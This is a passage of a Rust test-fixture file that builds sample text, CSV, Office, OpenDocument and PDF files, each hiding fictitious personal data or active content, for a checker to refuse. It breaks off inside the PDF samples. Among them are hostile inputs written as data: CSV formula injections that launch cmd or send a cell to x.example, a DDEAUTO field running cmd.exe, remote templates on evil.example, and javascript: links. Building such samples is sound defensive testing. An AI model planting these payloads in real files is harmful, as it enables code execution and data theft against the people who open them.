//! Where something can hide, by family. Each of these files must be refused.

use super::make::*;
use super::{Family, Sample};

pub fn all() -> Vec<Sample> {
    let families = [
        text(),
        tables(),
        word(),
        excel(),
        powerpoint(),
        open_document(),
        other_office(),
        pdf(),
        pictures(),
        sound_and_film(),
        markup(),
        archives(),
        disguises(),
    ];
    families.into_iter().flat_map(|family| family.samples).collect()
}

fn text() -> Family {
    let mut f = Family::new("Text", "txt");
    f.add("a health number", format!("NHS {NHS}"));
    f.add("UTF-16 with a mark", wide(&format!("NHS {NHS}"), true, false));
    f.add("UTF-16, big end first, without a mark", wide(&format!("NHS {NHS} and more words"), false, true));
    f.add("UTF-16 without a mark", wide(&format!("NHS {NHS} and more words"), false, false));
    f.add("Windows-1252", [b"Zo\xeb NHS ".as_slice(), NHS.as_bytes()].concat());
    f.add("an encoding that cannot be told", encoding_rs::WINDOWS_1251.encode("Секретные слова о ребёнке").0);
    f.add("bytes that are no text", b"abc\0\x01\x02\xfe\xff");
    f.add("a page under another name", "<!DOCTYPE html><script>alert(1)</script>");
    f.add("a path with a worker's name", "Saved as C:\\Users\\jo.bloggs\\case.docx");
    f.named("a health number in subtitles", "vtt", format!("WEBVTT\n\n00:00.000 --> 00:02.000\nNHS {NHS}\n"));
    f.named("a health number in data", "json", format!("{{\"nhs\": \"{NHS}\"}}"));
    f.named("a health number in a calendar", "ics", format!("BEGIN:VCALENDAR\nSUMMARY:NHS {NHS}\nEND:VCALENDAR\n"));
    f
}

fn tables() -> Family {
    let mut f = Family::new("CSV", "csv");
    f.add("a health number after a comma", format!("name,nhs\nA,{NHS}\n"));
    f.add("a health number beside a number", format!("1;{NHS};2\n"));
    f.add("dates of birth under their heading", "name,date of birth\nA,03/04/2015\n");
    f.add("the same, quoted", "\"name\",\"Date of birth\"\n\"B, A\",\"03/04/2015\"\n");
    f.add("the same below a title", "Register,\nname,DOB\nA,03/04/2015\n");
    f.add("the same with a gap in the column", "name,DOB\nA,n/a\nB,03/04/2015\n");
    f.add("“Unicode text” of Excel", wide("name\tDOB\nA\t03/04/2015\n", true, false));
    f.add("a formula that starts a program", "name\n=cmd|'/c calc'!A0\n");
    f.add("a formula that sends the cell beside it", "name\n\"=HYPERLINK(\"\"http://x.example/\"\"&A1)\"\n");
    f.add("a formula behind a sign", "name\n@SUM(1+1)*cmd|' /C calc'!A0\n");
    f.named("a health number between tabs", "tsv", format!("a\tb\n1\t{NHS}\n"));
    f
}

fn word() -> Family {
    let mut f = Family::new("Word", "docx");
    let mut body = |what, inside: &str| f.add(what, docx(inside, &[]));
    body("hidden text", &paragraph("<w:rPr><w:vanish/></w:rPr><w:t>a</w:t>"));
    body("hidden text, said with a word", &paragraph("<w:rPr><w:vanish w:val=\"true\"/></w:rPr><w:t>a</w:t>"));
    body("hidden text, said with “on”", &paragraph("<w:rPr><w:vanish w:val=\"on\"/></w:rPr><w:t>a</w:t>"));
    body("text hidden on screens", &paragraph("<w:rPr><w:webHidden/></w:rPr><w:t>secret words</w:t>"));
    body("text in white", &paragraph("<w:rPr><w:color w:val=\"FFFFFF\"/></w:rPr><w:t>secret words</w:t>"));
    body("text of half a point", &paragraph("<w:rPr><w:sz w:val=\"1\"/></w:rPr><w:t>secret words</w:t>"));
    body("text put in", "<w:ins w:id=\"1\" w:author=\"Jo\"><w:r><w:t>a</w:t></w:r></w:ins>");
    body("text deleted", "<w:p><w:del w:id=\"1\"><w:r><w:delText>a</w:delText></w:r></w:del></w:p>");
    body("text moved", "<w:p><w:moveFrom w:id=\"1\"><w:r><w:t>a</w:t></w:r></w:moveFrom></w:p>");
    for change in [
        "pPrChange",
        "rPrChange",
        "sectPrChange",
        "tblPrChange",
        "tcPrChange",
        "trPrChange",
        "tblGridChange",
        "numberingChange",
    ] {
        f.add(
            "a changed format",
            docx(&format!("<w:p><w:pPr><w:{change} w:id=\"1\" w:author=\"Jo\"/></w:pPr></w:p>"), &[]),
        );
    }
    let mut body = |what, inside: &str| f.add(what, docx(inside, &[]));
    body(
        "a deleted cell",
        "<w:tbl><w:tr><w:tc><w:tcPr><w:cellDel w:id=\"1\" w:author=\"Jo\"/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>",
    );
    body("a cell put in", "<w:tbl><w:tr><w:tc><w:tcPr><w:cellIns w:id=\"1\"/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>");
    body(
        "numeric references",
        &paragraph(&format!("<w:t>NHS {}</w:t>", NHS.bytes().map(|b| format!("&#{b};")).collect::<String>())),
    );
    body("a number over several runs", "<w:p><w:r><w:t>NHS 943476</w:t></w:r><w:r><w:t>5919</w:t></w:r></w:p>");
    body(
        "a number beside a number",
        &format!(
            "<w:tbl><w:tr><w:tc><w:p><w:r><w:t>1</w:t></w:r></w:p></w:tc><w:tc><w:p><w:r><w:t>{NHS}</w:t></w:r></w:p></w:tc></w:tr></w:tbl>"
        ),
    );
    let cell = |text: &str| format!("<w:tc><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:tc>");
    body(
        "dates of birth under their heading",
        &format!(
            "<w:tbl><w:tr>{}{}</w:tr><w:tr>{}{}</w:tr></w:tbl>",
            cell("Name"),
            cell("Date of birth"),
            cell("A"),
            cell("03/04/2015")
        ),
    );
    body(
        "a description of a picture",
        &format!(
            "<w:p><w:r><w:drawing><wp:docPr xmlns:wp=\"urn:wp\" id=\"1\" name=\"P\" descr=\"NHS {NHS}\"/></w:drawing></w:r></w:p>"
        ),
    );
    body(
        "a list to choose from",
        &format!(
            "<w:sdt><w:sdtPr><w:dropDownList><w:listItem w:displayText=\"NHS {NHS}\" w:value=\"1\"/></w:dropDownList></w:sdtPr></w:sdt>"
        ),
    );
    body(
        "a field that fetches",
        "<w:p><w:r><w:instrText>INCLUDETEXT \"C:\\\\cases\\\\a.docx\"</w:instrText></w:r></w:p>",
    );
    body("a field that runs", "<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText></w:r></w:p>");
    body("a chunk of another format", "<w:altChunk r:id=\"rId9\" xmlns:r=\"urn:r\"/>");
    let mut part = |what, name: &str, xml: String| f.add(what, docx("", &[(name, &xml)]));
    part(
        "a hidden style in use",
        "word/header1.xml",
        word_part("hdr", "<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>a</w:t></w:r></w:p>"),
    );
    part("deleted words in a footnote", "word/footnotes.xml", word_part("footnotes", "<w:del w:id=\"1\"/>"));
    part("a health number in a footer", "word/footer1.xml", word_part("ftr", &paragraph(&format!("<w:t>{NHS}</w:t>"))));
    part(
        "comments",
        "word/comments.xml",
        word_part("comments", "<w:comment w:id=\"1\" w:author=\"Jo\"><w:p/></w:comment>"),
    );
    part(
        "answers to comments",
        "word/commentsExtended.xml",
        "<w15:commentsEx xmlns:w15=\"urn:15\"><w15:commentEx w15:paraId=\"1\"/></w15:commentsEx>".into(),
    );
    part("people", "word/people.xml", "<w15:people xmlns:w15=\"http://schemas.microsoft.com/office/word/2012/wordml\"><w15:person w15:author=\"Jo Bloggs\"/></w15:people>".into());
    part("an author", "docProps/core.xml", "<cp:coreProperties xmlns:cp=\"urn:cp\" xmlns:dc=\"urn:dc\"><dc:creator>Jo Bloggs</dc:creator></cp:coreProperties>".into());
    part(
        "an author under another prefix",
        "docProps/core.xml",
        "<coreProperties xmlns:q=\"urn:dc\"><q:creator>Jo Bloggs</q:creator></coreProperties>".into(),
    );
    part(
        "whoever saved it last",
        "docProps/core.xml",
        "<cp:coreProperties xmlns:cp=\"urn:cp\"><cp:lastModifiedBy>Jo Bloggs</cp:lastModifiedBy></cp:coreProperties>"
            .into(),
    );
    part(
        "a title",
        "docProps/core.xml",
        format!(
            "<cp:coreProperties xmlns:cp=\"urn:cp\"><dc:title xmlns:dc=\"urn:dc\">Child A, NHS {NHS}</dc:title></cp:coreProperties>"
        ),
    );
    part("a manager", "docProps/app.xml", "<Properties><Manager>Jo Bloggs</Manager></Properties>".into());
    part("a company", "docProps/app.xml", "<Properties><Company>Heron House Refuge</Company></Properties>".into());
    part(
        "a template's place",
        "docProps/app.xml",
        "<Properties><Template>C:\\Users\\jo.bloggs\\a.dotm</Template></Properties>".into(),
    );
    part("properties of its own", "docProps/custom.xml", "<Properties><property name=\"Case\"><vt:lpwstr xmlns:vt=\"urn:vt\">Child A</vt:lpwstr></property></Properties>".into());
    part("data of a program", "customXml/item1.xml", "<root><child>Sarah</child></root>".into());
    part(
        "variables",
        "word/settings.xml",
        word_part("settings", "<w:docVars><w:docVar w:name=\"a\" w:val=\"b\"/></w:docVars>"),
    );
    part(
        "a list of addresses",
        "word/settings.xml",
        word_part("settings", "<w:mailMerge><w:query w:val=\"SELECT * FROM x\"/></w:mailMerge>"),
    );
    part("a template elsewhere", "word/_rels/settings.xml.rels", "<Relationships><Relationship Id=\"r\" Type=\"http://x/attachedTemplate\" Target=\"http://evil.example/a.dotm\" TargetMode=\"External\"/></Relationships>".into());
    part("a picture elsewhere", "word/_rels/document.xml.rels", "<Relationships><Relationship Id=\"r\" Type=\"http://x/image\" Target=\"http://evil.example/a.png\" TargetMode=\"External\"/></Relationships>".into());
    part("a link to a server", "word/_rels/document.xml.rels", "<Relationships><Relationship Id=\"r\" Type=\"http://x/hyperlink\" Target=\"\\\\server01\\cases\\a.docx\" TargetMode=\"External\"/></Relationships>".into());
    part("a link that runs", "word/_rels/document.xml.rels", "<Relationships><Relationship Id=\"r\" Type=\"http://x/hyperlink\" Target=\"javascript:alert(1)\" TargetMode=\"External\"/></Relationships>".into());
    part("XML that is not whole", "word/header1.xml", "<w:hdr><w:p>".into());
    part("an entity of its own", "word/header1.xml", format!("<!DOCTYPE a [<!ENTITY x \"{NHS}\">]><a>&x;</a>"));
    let bytes = |what, name: &str, content: &[u8], f: &mut Family| {
        f.add(what, zip_bytes(&[("word/document.xml", b"<w:document/>"), (name, content)]))
    };
    bytes("a macro", "word/vbaProject.bin", b"\xd0\xcf\x11\xe0", &mut f);
    bytes("a control", "word/activeX/activeX1.bin", b"abcd", &mut f);
    bytes("another document", "word/embeddings/Workbook.xlsx", &xlsx("", &[]), &mut f);
    bytes("an old picture of it", "docProps/thumbnail.jpeg", &jpeg(&[]), &mut f);
    bytes("a picture with its place", "word/media/image1.jpg", &jpeg(&[(0xe1, &exif(&[0x8825], 0))]), &mut f);
    bytes("a part nobody knows", "word/secret.bin", b"words", &mut f);
    bytes("a font", "word/fonts/font1.odttf", b"abcdefgh", &mut f);
    f.add("a locked file of old", [0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0]);
    let styles = word_part(
        "styles",
        "<w:style w:styleId=\"H\"><w:rPr><w:vanish/></w:rPr></w:style><w:style w:styleId=\"K\"><w:basedOn w:val=\"H\"/></w:style>",
    );
    f.add(
        "a style based on a hidden one",
        docx(
            "<w:p><w:pPr><w:pStyle w:val=\"K\"/></w:pPr><w:r><w:t>secret words</w:t></w:r></w:p>",
            &[("word/styles.xml", &styles)],
        ),
    );
    f.named("a macro", "docm", zip_bytes(&[("word/document.xml", b"<w:document/>"), ("word/vbaProject.bin", b"x")]));
    f.named(
        "comments in a template",
        "dotx",
        docx("", &[("word/comments.xml", &word_part("comments", "<w:comment/>"))]),
    );
    f
}

fn excel() -> Family {
    let mut f = Family::new("Excel", "xlsx");
    let book = |inside: &str| format!("<workbook xmlns=\"urn:s\" xmlns:x=\"urn:s\">{inside}</workbook>");
    for (what, sheet) in [
        ("a hidden sheet", "<sheets><sheet name=\"A\" state=\"hidden\"/></sheets>"),
        ("a very hidden sheet", "<sheets><sheet name=\"A\" state=\"veryHidden\"/></sheets>"),
        ("a hidden sheet under a prefix", "<x:sheets><x:sheet name=\"A\" state='hidden'/></x:sheets>"),
        ("a hidden name", "<definedNames><definedName name=\"x\" hidden=\"1\">A</definedName></definedNames>"),
        (
            "a health number behind a name",
            "<definedNames><definedName name=\"x\">\"NHS 9434765919\"</definedName></definedNames>",
        ),
        (
            "the folder it lay in",
            "<AlternateContent><absPath url=\"C:\\Users\\jo.bloggs\\Cases\\\"/></AlternateContent>",
        ),
        ("whoever reserved it", "<fileSharing userName=\"Jo Bloggs\"/>"),
    ] {
        f.add(what, xlsx("", &[("xl/workbook.xml", &book(sheet))]));
    }
    for (what, sheet) in [
        ("a hidden row", "<sheetData><row r=\"1\" hidden=\"1\"/></sheetData>"),
        ("a hidden row, said with a word", "<sheetData><row r=\"1\" hidden=\"true\"/></sheetData>"),
        ("a hidden row, said with “on”", "<sheetData><row r=\"1\" hidden='on'/></sheetData>"),
        ("a hidden column", "<cols><col min=\"1\" max=\"1\" hidden=\"true\"/></cols>"),
        ("a column of no width", "<cols><col min=\"1\" max=\"1\" width=\"0\" customWidth=\"1\"/></cols>"),
        ("a row of no height", "<sheetData><row r=\"1\" ht=\"0\" customHeight=\"1\"/></sheetData>"),
        ("rows hidden all at once", "<sheetFormatPr zeroHeight=\"true\"/>"),
        ("a formula that fetches", "<sheetData><row><c><f>WEBSERVICE(\"http://x.example\")</f></c></row></sheetData>"),
        ("a health number in a formula", "<sheetData><row><c><f>\"NHS 9434765919\"</f><v>0</v></c></row></sheetData>"),
        (
            "a health number in a list to choose from",
            "<dataValidations><dataValidation><formula1>\"NHS 9434765919\"</formula1></dataValidation></dataValidations>",
        ),
        (
            "a health number in a prompt",
            "<dataValidations><dataValidation prompt=\"NHS 9434765919\"/></dataValidations>",
        ),
        ("a health number in a footer", "<headerFooter><oddFooter>NHS 9434765919</oddFooter></headerFooter>"),
        (
            "a health number beside a number",
            "<sheetData><row r=\"1\"><c r=\"A1\"><v>1</v></c><c r=\"B1\"><v>9434765919</v></c></row></sheetData>",
        ),
        (
            "a health number as Excel shortens it",
            "<sheetData><row r=\"1\"><c r=\"A1\"><v>9.434765919E9</v></c></row></sheetData>",
        ),
        ("a control", "<controls><control name=\"a\"/></controls>"),
        ("a scenario", "<scenarios><scenario name=\"a\" user=\"Jo Bloggs\"/></scenarios>"),
    ] {
        f.add(what, xlsx(sheet, &[]));
    }
    f.add("dates of birth under their heading", xlsx(&rows(&[&["Name", "Date of birth"], &["A", "03/04/2015"]]), &[]));
    let dated = "<styleSheet><cellXfs><xf numFmtId=\"0\"/><xf numFmtId=\"14\"/></cellXfs></styleSheet>";
    let births = "<sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>DOB</t></is></c></row><row r=\"2\"><c r=\"A2\" s=\"1\"><v>42097</v></c></row></sheetData>";
    f.add("dates of birth as days counted", xlsx(births, &[("xl/styles.xml", dated)]));
    let nothing = "<styleSheet><numFmts><numFmt numFmtId=\"164\" formatCode=\";;;\"/></numFmts><cellXfs><xf numFmtId=\"164\"/></cellXfs></styleSheet>";
    let value = "<sheetData><row r=\"1\"><c r=\"A1\" s=\"0\"><v>12</v></c></row></sheetData>";
    f.add("a format that shows nothing", xlsx(value, &[("xl/styles.xml", nothing)]));
    let white = "<styleSheet><fonts><font><color rgb=\"FFFFFFFF\"/></font></fonts><fills><fill><patternFill patternType=\"none\"/></fill></fills><cellXfs><xf fontId=\"0\" fillId=\"0\"/></cellXfs></styleSheet>";
    f.add("words in white", xlsx(value, &[("xl/styles.xml", white)]));
    for (what, name, xml) in [
        (
            "comments",
            "xl/comments1.xml",
            "<comments><authors><author>Jo Bloggs</author></authors><commentList><comment ref=\"A1\"/></commentList></comments>",
        ),
        (
            "comments with answers",
            "xl/threadedComments/threadedComment1.xml",
            "<ThreadedComments><threadedComment ref=\"A1\"/></ThreadedComments>",
        ),
        ("people", "xl/persons/person.xml", "<personList><person displayName=\"Jo Bloggs\"/></personList>"),
        ("another workbook", "xl/externalLinks/externalLink1.xml", "<externalLink/>"),
        ("a connection", "xl/connections.xml", "<connections><connection id=\"1\" name=\"db\"/></connections>"),
        ("a query", "xl/queryTables/queryTable1.xml", "<queryTable name=\"q\"/>"),
        ("rows behind a pivot table", "xl/pivotCache/pivotCacheRecords1.xml", "<pivotCacheRecords/>"),
        ("what is listed behind a pivot table", "xl/pivotCache/pivotCacheDefinition1.xml", "<pivotCacheDefinition/>"),
        ("changes", "xl/revisions/revisionHeaders.xml", "<headers/>"),
        ("whoever opened it", "xl/revisions/userNames.xml", "<users/>"),
        ("strings of deleted cells", "xl/sharedStrings.xml", "<sst><si><t>NHS 9434765919</t></si></sst>"),
        ("a macro sheet", "xl/macrosheets/sheet1.xml", "<macrosheet/>"),
        ("a control", "xl/activeX/activeX1.xml", "<ocx/>"),
        ("an add-in", "xl/webextensions/webextension1.xml", "<webextension/>"),
        (
            "a picture's description",
            "xl/drawings/drawing1.xml",
            "<wsDr><cNvPr id=\"1\" name=\"p\" descr=\"NHS 9434765919\"/></wsDr>",
        ),
        ("a hidden picture", "xl/drawings/drawing1.xml", "<wsDr><cNvPr id=\"1\" name=\"p\" hidden=\"1\"/></wsDr>"),
        (
            "a chart's values",
            "xl/charts/chart1.xml",
            "<chartSpace><strCache><pt><v>NHS 9434765919</v></pt></strCache></chartSpace>",
        ),
        ("a button", "xl/drawings/drawing1.xml", "<wsDr><sp macro=\"Module1.Run\"/></wsDr>"),
    ] {
        f.add(what, xlsx("", &[(name, xml)]));
    }
    let printer: Vec<u8> = "\\\\printserver\\Floor 2 HP".encode_utf16().flat_map(u16::to_le_bytes).collect();
    f.add(
        "a printer on a server",
        zip_bytes(&[("xl/workbook.xml", b"<workbook/>"), ("xl/printerSettings/printerSettings1.bin", &printer)]),
    );
    f
}

fn powerpoint() -> Family {
    let mut f = Family::new("PowerPoint", "pptx");
    f.add("a hidden slide", pptx("", " show=\"0\"", &[]));
    f.add("a hidden slide, said with a word", pptx("", " show=\"false\"", &[]));
    f.add(
        "a health number on a slide",
        pptx(&format!("<p:sp><a:p><a:r><a:t>NHS {NHS}</a:t></a:r></a:p></p:sp>"), "", &[]),
    );
    f.add(
        "a hidden picture",
        pptx("<p:pic><p:nvPicPr><p:cNvPr id=\"1\" name=\"a\" hidden=\"1\"/></p:nvPicPr></p:pic>", "", &[]),
    );
    f.add(
        "a picture's description",
        pptx(&format!("<p:pic><p:cNvPr id=\"1\" name=\"a\" descr=\"NHS {NHS}\"/></p:pic>"), "", &[]),
    );
    f.add("words beside the slide", pptx("<p:sp><p:spPr><a:xfrm><a:off x=\"9900000\" y=\"0\"/><a:ext cx=\"100\" cy=\"100\"/></a:xfrm></p:spPr></p:sp>", "", &[]));
    f.add("tiny words", pptx("<p:sp><a:p><a:r><a:rPr sz=\"100\"/><a:t>Sarah</a:t></a:r></a:p></p:sp>", "", &[]));
    f.add("a button", pptx("<a:hlinkClick action=\"ppaction://program\"/>", "", &[]));
    for (what, name, xml) in [
        (
            "notes of the speaker",
            "ppt/notesSlides/notesSlide1.xml",
            "<p:notes xmlns:a=\"urn:a\" xmlns:p=\"urn:p\"><a:p><a:r><a:t>Do not mention Sarah</a:t></a:r></a:p></p:notes>",
        ),
        ("comments", "ppt/comments/comment1.xml", "<p:cmLst xmlns:p=\"urn:p\"><p:cm authorId=\"0\"/></p:cmLst>"),
        (
            "comments of today",
            "ppt/comments/modernComment_1.xml",
            "<p188:cmLst xmlns:p188=\"urn:p\"><p188:cm id=\"0\"/></p188:cmLst>",
        ),
        (
            "whoever commented",
            "ppt/commentAuthors.xml",
            "<p:cmAuthorLst xmlns:p=\"urn:p\"><p:cmAuthor id=\"1\" name=\"Jo Bloggs\"/></p:cmAuthorLst>",
        ),
        (
            "whoever commented, today",
            "ppt/authors.xml",
            "<p188:authorLst xmlns:p188=\"http://schemas.microsoft.com/office/powerpoint/2018/8/main\"><p188:author id=\"1\" name=\"Jo Bloggs\"/></p188:authorLst>",
        ),
        ("changes", "ppt/changesInfos/changesInfo1.xml", "<pc:chgInfo xmlns:pc=\"urn:pc\"/>"),
        (
            "data of a program",
            "ppt/tags/tag1.xml",
            "<p:tagLst xmlns:p=\"urn:p\"><p:tag name=\"CASE\" val=\"Child A\"/></p:tagLst>",
        ),
        (
            "an author",
            "docProps/core.xml",
            "<cp:coreProperties xmlns:cp=\"urn:cp\"><dc:creator xmlns:dc=\"urn:dc\">Jo Bloggs</dc:creator></cp:coreProperties>",
        ),
    ] {
        f.add(what, pptx("", "", &[(name, xml)]));
    }
    f.add(
        "another document",
        zip_bytes(&[("ppt/presentation.xml", b"<p:presentation/>"), ("ppt/embeddings/a.xlsx", &xlsx("", &[]))]),
    );
    f.add(
        "a film with its place",
        zip_bytes(&[
            ("ppt/presentation.xml", b"<p:presentation/>"),
            ("ppt/media/a.mp4", &mp4(&boxed(b"udta", &boxed(b"\xa9xyz", b"\0\x12\0\0+51.5074-000.1278/")), b"")),
        ]),
    );
    f
}

fn open_document() -> Family {
    let mut f = Family::new("OpenDocument", "odt");
    let part = |inside: &str| odf("", &[("styles.xml", &open("document-styles", inside))]);
    f.add("hidden text", part("<style:style><style:text-properties text:display=\"none\"/></style:style>"));
    f.add("hidden by a condition", odf("<text:section text:name=\"a\" text:condition=\"1\" text:display=\"condition\"><text:p>a</text:p></text:section>", &[]));
    f.add(
        "a hidden paragraph",
        odf("<text:p><text:hidden-paragraph text:is-hidden=\"true\">a</text:hidden-paragraph></text:p>", &[]),
    );
    f.add(
        "a comment",
        odf(
            "<text:p><office:annotation><dc:creator>Jo</dc:creator><text:p>a</text:p></office:annotation></text:p>",
            &[],
        ),
    );
    f.add(
        "changes",
        odf(
            "<text:tracked-changes><text:changed-region><text:deletion/></text:changed-region></text:tracked-changes>",
            &[],
        ),
    );
    f.add("tiny words", part("<style:style><style:text-properties fo:font-size=\"1pt\"/></style:style>"));
    f.add("a link to a file", odf("<text:p><text:a xlink:href=\"file:///C:/cases/a.odt\">a</text:a></text:p>", &[]));
    f.add("a link that runs", odf("<text:p><text:a xlink:href=\"javascript:alert(1)\">a</text:a></text:p>", &[]));
    f.add(
        "a picture elsewhere",
        odf("<draw:frame><draw:image xlink:href=\"http://evil.example/a.png\"/></draw:frame>", &[]),
    );
    f.add(
        "a health number in a title",
        odf(&format!("<draw:frame><svg:title xmlns:svg=\"urn:svg\">NHS {NHS}</svg:title></draw:frame>"), &[]),
    );
    f.add("a script", odf("<office:scripts><office:script script:language=\"x\"/></office:scripts>", &[]));
    f.add(
        "words taken from another file",
        odf("<text:section><text:section-source xlink:href=\"a.odt\"/></text:section>", &[]),
    );
    f.add(
        "an author",
        odf(
            "",
            &[(
                "meta.xml",
                &open(
                    "document-meta",
                    "<office:meta><meta:initial-creator>Jo Bloggs</meta:initial-creator></office:meta>",
                ),
            )],
        ),
    );
    f.add(
        "whoever saved it last",
        odf(
            "",
            &[("meta.xml", &open("document-meta", "<office:meta><dc:creator>Jo Bloggs</dc:creator></office:meta>"))],
        ),
    );
    f.add(
        "whoever printed it",
        odf(
            "",
            &[(
                "meta.xml",
                &open("document-meta", "<office:meta><meta:printed-by>Jo Bloggs</meta:printed-by></office:meta>"),
            )],
        ),
    );
    f.add(
        "properties of its own",
        odf(
            "",
            &[(
                "meta.xml",
                &open(
                    "document-meta",
                    "<office:meta><meta:user-defined meta:name=\"Case\">Child A</meta:user-defined></office:meta>",
                ),
            )],
        ),
    );
    f.add(
        "a title",
        odf(
            "",
            &[(
                "meta.xml",
                &open("document-meta", &format!("<office:meta><dc:title>NHS {NHS}</dc:title></office:meta>")),
            )],
        ),
    );
    f.add("a macro", odf("", &[("Basic/Standard/Module1.xml", "<script/>")]));
    f.add(
        "a lock",
        odf("", &[("META-INF/manifest.xml", "<manifest><file-entry><encryption-data/></file-entry></manifest>")]),
    );
    f.add("an old picture of it", zip_bytes(&[("content.xml", b"<a/>"), ("Thumbnails/thumbnail.png", &png(&[]))]));
    f.add(
        "another document",
        odf(
            "",
            &[("Object 1/content.xml", &open("document-content", "<office:body><office:spreadsheet/></office:body>"))],
        ),
    );
    f.named("a hidden sheet", "ods", odf("<table:table table:style-name=\"a\" table:display=\"false\"/>", &[]));
    f.named(
        "hidden rows",
        "ods",
        odf("<table:table><table:table-row table:visibility=\"collapse\"/></table:table>", &[]),
    );
    f.named(
        "filtered rows",
        "ods",
        odf("<table:table><table:table-row table:visibility=\"filter\"/></table:table>", &[]),
    );
    f.named("dates of birth under their heading", "ods", odf("<table:table><table:table-row><table:table-cell><text:p>DOB</text:p></table:table-cell></table:table-row><table:table-row><table:table-cell><text:p>03/04/2015</text:p></table:table-cell></table:table-row></table:table>", &[]));
    f.named("a hidden slide", "odp", odf("<draw:page presentation:visibility=\"hidden\"/>", &[]));
    f.named(
        "notes of the speaker",
        "odp",
        odf(
            "<draw:page><presentation:notes><text:p>Do not mention Sarah</text:p></presentation:notes></draw:page>",
            &[],
        ),
    );
    f.named(
        "hidden text in one piece",
        "fodt",
        flat_odf("<text:p><text:hidden-text text:string-value=\"a\"/></text:p>"),
    );
    f.named(
        "an author in one piece",
        "fodt",
        open("document", "<office:meta><dc:creator>Jo Bloggs</dc:creator></office:meta><office:body/>"),
    );
    f
}

fn other_office() -> Family {
    let mut f = Family::new("Old office", "doc");
    let old = [0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1];
    f.add("a format of before 2007", old);
    f.named("a format of before 2007", "xls", old);
    f.named("a format of before 2007", "ppt", old);
    f.named("rich text", "rtf", "{\\rtf1{\\info{\\author Jo}}\\v hidden}");
    f.named("a binary workbook", "xlsb", xlsx("", &[]));
    f.named(
        "a Word file of 2003",
        "xml",
        "<?mso-application progid=\"Word.Document\"?><w:wordDocument xmlns:w=\"urn:w\"><w:body/></w:wordDocument>",
    );
    f.named("an Excel file of 2003", "xml", "<Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\"/>");
    f.named("a mail", "eml", "From: jo\n\nHello");
    f.named("a mail of Outlook", "msg", old);
    f
}

fn pdf() -> Family {
    let mut f = Family::new("PDF", "pdf");
    let nhs = format!("BT /F1 12 Tf 72 700 Td (NHS {NHS}) Tj ET");
    f.add("a health number", Pdf { draw: &nhs, ..Pdf::default() }.make());
    f.add(
        "a number drawn digit by digit",
        Pdf {
            draw: &format!(
                "BT /F1 10 Tf 72 700 Td [{}] TJ ET",
                NHS.chars().map(|c| format!("({c}) 10 ")).collect::<String>()
            ),
            more: &[],
            ..Pdf::default()
        }
        .make(),
    );
    f.add(
        "a date of birth",
        Pdf { draw: "BT /F1 12 Tf 72 700 Td (Date of birth: 03/04/2015) Tj ET", ..Pdf::default() }.make(),
    );
    f.add("dates of birth under their heading", Pdf { draw: "BT /F1 12 Tf 72 700 Td (Name) Tj 200 0 Td (Date of birth) Tj -200 -20 Td (A) Tj 200 0 Td (03/04/2015) Tj ET", ..Pdf::default() }.make());
    f.add(
        "words in a form of their own",
        Pdf {
            draw: &format!("{LINE}/X Do"),
            resources: "/XObject << /X 6 0 R >>",
            more: &[stream(
                "/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >>",
                nhs.as_bytes(),
            )],
            ..Pdf::default()
        }
        .make(),
    );
    let map = "/CIDInit /ProcSet findresource begin\n12 dict begin\nbegincmap\n/CMapName /A def\n/CMapType 2 def\n1 begincodespacerange\n<00> <FF>\nendcodespacerange\n1 beginbfrange\n<01> <0A> <0030>\nendbfrange\nendcmap\nCMapName currentdict /CMap defineresource pop\nend\nend\n";
    let coded: String = NHS.bytes().map(|b| format!("{:02x}", b - b'0' + 1)).collect();
    f.add(
        "letters with a map of their own",
        Pdf {
            draw: &format!("BT /F2 12 Tf 72 700 Td <{coded}> Tj ET"),
            page: "",
            resources: "",
            more: &[],
            ..Pdf::default()
        }
        .with_font(map),
    );
    f.add(
        "letters that nobody can tell",
        Pdf { draw: "BT /F2 12 Tf 72 700 Td <00010002> Tj ET", ..Pdf::default() }.with_untold_font(),
    );
    f.add(
        "an author",
        Pdf { trailer: "/Info 6 0 R", more: &[b"<< /Author (Jo Bloggs) >>".to_vec()], ..Pdf::default() }.make(),
    );
    f.add(
        "an author elsewhere",
        Pdf {
            trailer: "/Info 6 0 R",
            more: &[b"<< /Author 7 0 R >>".to_vec(), b"(Jo Bloggs)".to_vec()],
            ..Pdf::default()
        }
        .make(),
    );
    f.add(
        "an author in UTF-16",
        Pdf { trailer: "/Info 6 0 R", more: &[b"<< /Author <FEFF004A006F> >>".to_vec()], ..Pdf::default() }.make(),
    );
    f.add(
        "a title",
        Pdf {
            trailer: "/Info 6 0 R",
            more: &[format!("<< /Title (Child A NHS {NHS}) >>").into_bytes()],
            ..Pdf::default()
        }
        .make(),
    );
    f.add(
        "a title in XMP",
        Pdf {
            catalogue: "/Metadata 6 0 R",
            more: &[stream(
                "/Type /Metadata /Subtype /XML",
                format!("<x:xmpmeta xmlns:x=\"urn:x\"><dc:title xmlns:dc=\"urn:dc\">NHS {NHS}</dc:title></x:xmpmeta>")
                    .as_bytes(),
            )],
            ..Pdf::default()
        }
        .make(),
    );
    f.add("an author in XMP", Pdf { catalogue: "/Metadata 6 0 R", more: &[stream("/Type /Metadata /Subtype /XML", b"<x:xmpmeta xmlns:x=\"urn:x\"><dc:creator xmlns:dc=\"urn:dc\"><li>Jo Bloggs</li></dc:creator></x:xmpmeta>")], ..Pdf::default() }.make());
    for kind in [
        "Text",
        "Highlight",
        "StrikeOut",
        "Underline",
        "Squiggly",
        "Stamp",
        "FreeText",
        "Ink",
        "Caret",
        "Square",
        "Popup",
        "Line",
        "Polygon",
        "Redact",
    ] {
        f.add(
            "a note",
            Pdf {
                page: &format!("/Annots [<< /Type /Annot /Subtype /{kind} /Rect [0 0 9 9] /Contents (no) /T (Jo) >>]"),
                ..Pdf::default()
            }
            .make(),
        );
    }
    for (what, page) in [
        ("a file pinned on", "/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] >>]"),
